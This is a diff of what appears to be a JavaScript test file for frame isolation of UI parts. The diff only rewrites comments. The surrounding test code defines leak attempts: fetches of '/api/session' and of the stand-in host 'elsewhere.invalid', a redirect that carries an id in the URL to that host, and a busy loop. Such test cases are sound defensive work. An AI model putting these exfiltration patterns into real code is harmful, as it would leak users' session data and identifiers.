@@ -1,6 +1,6 @@
 const never = () => new Promise(() => undefined)
 
-/** What a part could use to carry bytes out of its frame, or to read what is not its own. */
+/** Ways in which a part could leak data out of its frame, or read data that it may not access. */
 const ways = {
   fetch: () => fetch('/api/session'),
   elsewhere: () => fetch('http://elsewhere.invalid/'),
@@ -76,13 +76,13 @@ const acts = {
   nonsense: () => 42,
   escapes,
   leaves: (element, { thing }) => {
-    // With what it knows in the address.
+    // With the data in the URL.
     location.href = `http://elsewhere.invalid/?${encodeURIComponent(thing.id)}`
     return () => element.replaceChildren()
   },
   loops: (element, { thing }) => {
     element.textContent = 'mounted'
-    // Only in a frame of its own: elsewhere the page would hang with it.
+    // Only in a separate frame: otherwise the page would hang too.
     setTimeout(() => {
       while (thing.name.endsWith('-frame'));
     }, 500)
